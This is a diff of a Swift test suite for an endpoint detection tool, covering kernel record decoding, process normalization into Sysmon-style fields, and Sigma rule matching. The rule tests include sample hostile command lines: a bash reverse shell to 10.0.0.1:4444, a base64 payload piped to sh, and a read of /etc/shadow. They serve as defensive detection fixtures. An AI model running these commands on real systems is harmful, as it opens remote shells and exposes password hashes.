@@ -6,45 +6,108 @@ import EDRSigma
 import EDRYara
 
 /// The test names for the shared record encoder (Sources/EDRDetect/KernelRecordLayout.swift).
+/// Every identity field gets its own value by default (pid ≠ tid, uid ≠ euid ≠ gid ≠ egid ≠
+/// loginuid, start ≠ parent start): a decoder that mixes two of them up fails the tests.
 enum RecordBuilder {
+    static let tidOffset: UInt32 = 7
+    static let euid: UInt32 = 61_002, gid: UInt32 = 61_003, egid: UInt32 = 61_004, loginuid: UInt32 = 61_005
+
     static func ids(pid: UInt32, ppid: UInt32, uid: UInt32, start: UInt64, parentStart: UInt64) -> [UInt8] {
-        KernelRecordLayout.ids(pid: pid, ppid: ppid, uid: uid, start: start, parentStart: parentStart)
+        KernelRecordLayout.ids(pid: pid, tid: pid + tidOffset, ppid: ppid, uid: uid, euid: euid, gid: gid, egid: egid,
+                               start: start, parentStart: parentStart, loginuid: loginuid)
     }
 
     static func exec(pid: UInt32 = 100, ppid: UInt32 = 50, uid: UInt32 = 0, args: [String], path: String, cwd: String,
                      start: UInt64 = 5_000_000_000, parentStart: UInt64 = 1_000_000_000, flags: UInt32 = 0) -> [UInt8] {
-        KernelRecordLayout.exec(pid: pid, ppid: ppid, uid: uid, start: start, parentStart: parentStart,
-                                args: args, path: path, cwd: cwd, flags: flags)
+        KernelRecordLayout.exec(pid: pid, tid: pid + tidOffset, ppid: ppid, uid: uid, euid: euid, gid: gid, egid: egid,
+                                loginuid: loginuid, start: start, parentStart: parentStart, args: args, path: path, cwd: cwd,
+                                flags: flags, bootNanos: 9_000_000_123)
     }
+}
+
+/// A record of the wrong kind fails the test where it is unwrapped (`try #require(x.asExec)`).
+extension KernelRecord {
+    var asExec: ExecRecord? { if case .exec(let r) = self { r } else { nil } }
+    var asExit: ExitRecord? { if case .exit(let r) = self { r } else { nil } }
+    var asFork: ForkRecord? { if case .fork(let r) = self { r } else { nil } }
+    var asNet: NetRecord? { if case .net(let r) = self { r } else { nil } }
+    var asFile: FileRecord? { if case .file(let r) = self { r } else { nil } }
+    var asDns: DnsRecord? { if case .dns(let r) = self { r } else { nil } }
+    var asAttack: AttackRecord? { if case .attack(let r) = self { r } else { nil } }
+    var asCgroup: CgroupRecord? { if case .cgroup(let r) = self { r } else { nil } }
+}
+
+/// Each identity field, separately.
+func expectIDs(_ ids: TaskIDs, pid: Int32, tid: Int32, ppid: Int32, uid: UInt32, euid: UInt32, gid: UInt32, egid: UInt32,
+               loginuid: UInt32, start: UInt64, parentStart: UInt64, sourceLocation: SourceLocation = #_sourceLocation) {
+    #expect(ids.pid == pid, "pid", sourceLocation: sourceLocation)
+    #expect(ids.tid == tid, "tid", sourceLocation: sourceLocation)
+    #expect(ids.ppid == ppid, "ppid", sourceLocation: sourceLocation)
+    #expect(ids.uid == uid, "uid", sourceLocation: sourceLocation)
+    #expect(ids.euid == euid, "euid", sourceLocation: sourceLocation)
+    #expect(ids.gid == gid, "gid", sourceLocation: sourceLocation)
+    #expect(ids.egid == egid, "egid", sourceLocation: sourceLocation)
+    #expect(ids.loginuid == loginuid, "loginuid", sourceLocation: sourceLocation)
+    #expect(ids.startBoottimeNanos == start, "start", sourceLocation: sourceLocation)
+    #expect(ids.parentStartBoottimeNanos == parentStart, "parent start", sourceLocation: sourceLocation)
 }
 
 @Suite("Kernel records and normalization")
 struct KernelRecordTests {
     @Test func decodesExec() throws {
-        let bytes = RecordBuilder.exec(args: ["/usr/bin/curl", "-s", "http://x"], path: "/usr/bin/curl", cwd: "/home/a b")
-        guard case .exec(let r) = try KernelRecordDecoder.decode(bytes) else { Issue.record("not exec"); return }
+        let bytes = KernelRecordLayout.exec(pid: 100, tid: 101, ppid: 50, uid: 61_001, euid: 61_002, gid: 61_003, egid: 61_004,
+                                            loginuid: 61_005, start: 5_000_000_000, parentStart: 1_000_000_000,
+                                            args: ["/usr/bin/curl", "-s", "http://x"], path: "/usr/bin/curl", cwd: "/home/a b",
+                                            flags: ExecRecord.cwdTruncated, cgroup: 777, comm: "curl-comm", bootNanos: 9_000_000_123)
+        let r = try #require(try KernelRecordDecoder.decode(bytes).asExec, "not an exec record")
         #expect(r.args == ["/usr/bin/curl", "-s", "http://x"])
+        #expect(r.commandLine == "/usr/bin/curl -s http://x")
         #expect(r.path == "/usr/bin/curl")
         #expect(r.cwd == "/home/a b")
-        #expect(r.ids.pid == 100 && r.ids.ppid == 50)
-        #expect(r.cgroupID == 777 && r.comm == "comm" && r.argc == 3)
+        expectIDs(r.ids, pid: 100, tid: 101, ppid: 50, uid: 61_001, euid: 61_002, gid: 61_003, egid: 61_004, loginuid: 61_005,
+                  start: 5_000_000_000, parentStart: 1_000_000_000)
+        #expect(r.bootNanos == 9_000_000_123)
+        #expect(r.cgroupID == 777)
+        #expect(r.comm == "curl-comm")
+        #expect(r.argc == 3)
+        #expect(r.flags == ExecRecord.cwdTruncated)
         // The identity as fstat reports it: st_dev of 8:1 is 0x801.
         #expect(r.executable == FileIdentity(device: 0x801, inode: 4242, size: 35_000,
                                              ctimeSeconds: 1_700_000_000, ctimeNanoseconds: 123_456_789))
     }
 
+    @Test func decodesExitAndFork() throws {
+        let exit = try #require(try KernelRecordDecoder.decode(KernelRecordLayout.exit(
+            pid: 300, tid: 302, ppid: 30, uid: 61_011, euid: 61_012, gid: 61_013, egid: 61_014, loginuid: 61_015,
+            start: 7_000_000_000, parentStart: 3_000_000_000, code: 0x0900, comm: "exit-comm", bootNanos: 8_000_000_001)).asExit,
+            "not an exit record")
+        expectIDs(exit.ids, pid: 300, tid: 302, ppid: 30, uid: 61_011, euid: 61_012, gid: 61_013, egid: 61_014, loginuid: 61_015,
+                  start: 7_000_000_000, parentStart: 3_000_000_000)
+        #expect(exit.exitCode == 0x0900 && exit.comm == "exit-comm" && exit.bootNanos == 8_000_000_001)
+        let fork = try #require(try KernelRecordDecoder.decode(KernelRecordLayout.fork(
+            pid: 400, tid: 404, ppid: 40, uid: 61_021, euid: 61_022, gid: 61_023, egid: 61_024, loginuid: 61_025,
+            start: 6_000_000_000, parentStart: 2_000_000_000, comm: "fork-comm", bootNanos: 8_000_000_002)).asFork,
+            "not a fork record")
+        expectIDs(fork.ids, pid: 400, tid: 404, ppid: 40, uid: 61_021, euid: 61_022, gid: 61_023, egid: 61_024, loginuid: 61_025,
+                  start: 6_000_000_000, parentStart: 2_000_000_000)
+        #expect(fork.comm == "fork-comm" && fork.bootNanos == 8_000_000_002)
+        // Start times in clock ticks, as /proc states them (100 Hz).
+        #expect(fork.ids.startTicks == 600 && fork.ids.parentStartTicks == 200)
+    }
+
     @Test func rootPathAndTruncatedArgs() throws {
         var bytes = RecordBuilder.exec(args: ["a", "b"], path: "/x", cwd: "/")
-        guard case .exec(let r) = try KernelRecordDecoder.decode(bytes) else { return }
-        #expect(r.cwd == "/")
+        let r = try #require(try KernelRecordDecoder.decode(bytes).asExec, "not an exec record")
+        #expect(r.cwd == "/" && r.path == "/x" && r.args == ["a", "b"] && r.flags == 0)
         // A truncated argv has no final NUL: the partial argument is kept.
         bytes = RecordBuilder.exec(args: ["a", "bcd"], path: "/x", cwd: "/", flags: ExecRecord.argsTruncated)
         bytes.remove(at: 136 + 5)          // drop the last NUL of argv
         bytes[80] -= 1                      // args_len
         let size = UInt32(bytes.count)
         withUnsafeBytes(of: size.littleEndian) { for i in 0..<4 { bytes[4 + i] = $0[i] } }
-        guard case .exec(let t) = try KernelRecordDecoder.decode(bytes) else { return }
-        #expect(t.args == ["a", "bcd"] && t.flags & ExecRecord.argsTruncated != 0)
+        let t = try #require(try KernelRecordDecoder.decode(bytes).asExec, "not an exec record")
+        #expect(t.args == ["a", "bcd"] && t.flags == ExecRecord.argsTruncated)
+        #expect(t.commandLine == "a bcd" && t.path == "/x" && t.cwd == "/")
     }
 
     @Test func rejectsMalformedRecords() {
@@ -60,33 +123,46 @@ struct KernelRecordTests {
         var version = good
         version[2] = 7
         #expect(throws: RecordError.self) { try KernelRecordDecoder.decode(version) }
-        var rng = SystemRandomNumberGenerator()
-        for _ in 0..<2000 {
-            var b = good
-            for _ in 0..<4 { b[Int.random(in: 0..<b.count, using: &rng)] = UInt8.random(in: 0...255, using: &rng) }
-            _ = try? KernelRecordDecoder.decode(b)
-        }
+        // Structure-aware fuzzing of every record kind: FuzzTests.swift.
     }
 
     @Test func normalizerLinksParentAndBuildsSysmonFields() throws {
         var n = Normalizer(machineID: "0123456789abcdef0123456789abcdef")
         let parentStart: UInt64 = 1_000_000_000
-        guard case .exec(let p) = try KernelRecordDecoder.decode(RecordBuilder.exec(pid: 50, ppid: 1, args: ["bash", "-i"], path: "/usr/bin/bash", cwd: "/root", start: parentStart, parentStart: 10)) else { return }
+        let p = try #require(try KernelRecordDecoder.decode(RecordBuilder.exec(pid: 50, ppid: 1, args: ["bash", "-i"], path: "/usr/bin/bash", cwd: "/root", start: parentStart, parentStart: 10)).asExec, "not an exec record")
         _ = n.exec(p)
-        guard case .exec(let c) = try KernelRecordDecoder.decode(RecordBuilder.exec(pid: 100, ppid: 50, args: ["whoami"], path: "/usr/bin/whoami", cwd: "/tmp", parentStart: parentStart)) else { return }
-        let (event, proc, parent) = n.exec(c)
+        // The child runs as uid 0 with every other id different: User is the real uid's name.
+        let c = try #require(try KernelRecordDecoder.decode(RecordBuilder.exec(pid: 100, ppid: 50, args: ["whoami"], path: "/usr/bin/whoami", cwd: "/tmp", parentStart: parentStart)).asExec, "not an exec record")
+        let (event, proc, parentEntry) = n.exec(c)
+        let parent = try #require(parentEntry, "the parent was not found in the cache")
         #expect(event.logsource == Normalizer.processCreation)
         #expect(event["Image"] == .string("/usr/bin/whoami"))
         #expect(event["CommandLine"] == .string("whoami"))
         #expect(event["CurrentDirectory"] == .string("/tmp"))
         #expect(event["User"] == .string("root"))
+        #expect(event["LogonId"] == .int(Int64(RecordBuilder.loginuid)))
         #expect(event["ProcessId"] == .int(100))
         #expect(event["ParentProcessId"] == .int(50))
         #expect(event["ParentImage"] == .string("/usr/bin/bash"))
         #expect(event["ParentCommandLine"] == .string("bash -i"))
-        #expect(parent?.pid == 50)
-        #expect(proc.guid.hasPrefix("{01234567-") && proc.guid.count == 38)
-        #expect(event["ParentProcessGuid"] == .string(parent!.guid))
+        #expect(event["ParentUser"] == .string("root"))
+        #expect(parent.pid == 50 && parent.image == "/usr/bin/bash")
+        #expect(proc.pid == 100 && proc.ppid == 50 && proc.uid == 0 && proc.loginuid == RecordBuilder.loginuid)
+        #expect(proc.guid == "{01234567-0000-0000-0000-01f400000064}")   // start 5 s = 500 ticks, pid 100
+        #expect(event["ProcessGuid"] == .string(proc.guid))
+        #expect(parent.guid == "{01234567-0000-0000-0000-006400000032}")  // start 1 s = 100 ticks, pid 50
+        #expect(event["ParentProcessGuid"] == .string(parent.guid))
+    }
+
+    /// The real uid names the user, not the effective one (a set-uid program run by alice is alice's).
+    @Test func userIsTheRealUID() throws {
+        var n = Normalizer(machineID: "0123456789abcdef0123456789abcdef")
+        let bytes = KernelRecordLayout.exec(pid: 70, tid: 71, ppid: 1, uid: 61_999, euid: 0, gid: 61_998, egid: 0,
+                                            start: 2_000_000_000, parentStart: 10, args: ["passwd"], path: "/usr/bin/passwd", cwd: "/")
+        let r = try #require(try KernelRecordDecoder.decode(bytes).asExec, "not an exec record")
+        let (event, proc, _) = n.exec(r)
+        #expect(event["User"] == .string("61999"))
+        #expect(proc.uid == 61_999)
     }
 
     /// The hot-path builders write bytes by hand: check them character for character.
@@ -111,14 +187,17 @@ struct KernelRecordTests {
     /// its own ProcessGuid, and names the parent's as ParentProcessGuid; argv is split on demand.
     @Test func forkInheritsTheParentAndSplitsArgvOnDemand() throws {
         var n = Normalizer(machineID: "0123456789abcdef0123456789abcdef")
-        guard case .exec(let p) = try KernelRecordDecoder.decode(RecordBuilder.exec(pid: 50, ppid: 1, args: ["bash", "-c", "a b"], path: "/usr/bin/bash", cwd: "/root", start: 1_000_000_000, parentStart: 10)) else { return }
+        let p = try #require(try KernelRecordDecoder.decode(RecordBuilder.exec(pid: 50, ppid: 1, args: ["bash", "-c", "a b"], path: "/usr/bin/bash", cwd: "/root", start: 1_000_000_000, parentStart: 10)).asExec, "not an exec record")
         let (_, parent, _) = n.exec(p)
         #expect(parent.args == ["bash", "-c", "a b"] && parent.commandLine == "bash -c a b")
-        guard case .fork(let f) = try KernelRecordDecoder.decode(KernelRecordLayout.fork(pid: 60, ppid: 50, start: 2_000_000_000, parentStart: 1_000_000_000)) else { return }
+        let f = try #require(try KernelRecordDecoder.decode(KernelRecordLayout.fork(pid: 60, tid: 61, ppid: 50, uid: 61_999, euid: 61_002,
+                                                                                    start: 2_000_000_000, parentStart: 1_000_000_000)).asFork,
+                             "not a fork record")
         n.fork(f)
         let child = try #require(n.cache.lookup(pid: 60))
         #expect(child.image == "/usr/bin/bash" && child.args == ["bash", "-c", "a b"] && child.cwd == "/root")
         #expect(child.parentGuid == parent.guid && child.guid != parent.guid && child.ppid == 50)
+        #expect(child.uid == 61_999 && child.user == "61999" && child.startTicks == 200)
         n.exit(ExitRecord(bootNanos: 0, ids: f.ids, exitCode: 0, comm: ""))
         #expect(n.cache.lookup(pid: 60)?.exitedAtNanos != nil)
     }
@@ -129,7 +208,7 @@ struct KernelRecordTests {
         p.appendLE(UInt32(321))
         func section(_ tag: UInt8, _ s: [UInt8]) { p.append(tag); p.appendLE(UInt32(s.count)); p += s }
         section(1, Array("321 (my (odd) name) S 1 321 321 0 -1 4194560 100 0 0 0 1 2 0 0 20 0 1 0 4242 1000 10".utf8))
-        section(2, Array("Name:\tx\nUid:\t1000\t1000\t1000\t1000\n".utf8))
+        section(2, Array("Name:\tx\nUid:\t1000\t1001\t1002\t1003\n".utf8))   // real, effective, saved, fs: distinct
         section(3, Array("python3\0-m\0http.server\0".utf8))
         section(4, Array("/usr/bin/python3.11".utf8))
         section(5, Array("/srv".utf8))
@@ -174,13 +253,15 @@ struct TeamRuleTests {
 
     @Test func teamRulesLoadAndMatch() throws {
         let engine = try SigmaEngine.load(paths: [Self.rulesDir])
-        #expect(engine.loadedCount == engine.diagnostics.count && engine.loadedCount >= 4)
+        let files = try FileManager.default.contentsOfDirectory(atPath: Self.rulesDir).filter { $0.hasSuffix(".yml") }
+        #expect(files.count == 4)
+        #expect(engine.loadedCount == engine.diagnostics.count && engine.loadedCount == files.count)
         let titles = { (e: Event) in Set(engine.evaluate(e).map(\.rule.title)) }
-        #expect(titles(event("/usr/bin/whoami", "whoami")).contains("Identity Discovery As Root"))
+        #expect(titles(event("/usr/bin/whoami", "whoami")) == ["Identity Discovery As Root"])
         #expect(titles(event("/usr/bin/whoami", "whoami", user: "alice")).isEmpty)
-        #expect(titles(event("/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'")).contains("Interactive Reverse Shell Through /dev/tcp Or A Network Tool"))
-        #expect(titles(event("/usr/bin/sh", "sh -c echo aGk= | base64 -d | sh")).contains("Base64-Decoded Script Piped To A Shell"))
+        #expect(titles(event("/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'")) == ["Interactive Reverse Shell Through /dev/tcp Or A Network Tool"])
+        #expect(titles(event("/usr/bin/sh", "sh -c echo aGk= | base64 -d | sh")) == ["Base64-Decoded Script Piped To A Shell"])
         #expect(titles(event("/usr/bin/sh", "sh -c base64 -d file > out")).isEmpty)
-        #expect(titles(event("/usr/bin/CAT", "cat /etc/SHADOW")).contains("Password Hash File Read By A Text Tool")) // case-insensitive
+        #expect(titles(event("/usr/bin/CAT", "cat /etc/SHADOW")) == ["Password Hash File Read By A Text Tool"]) // case-insensitive
     }
 }
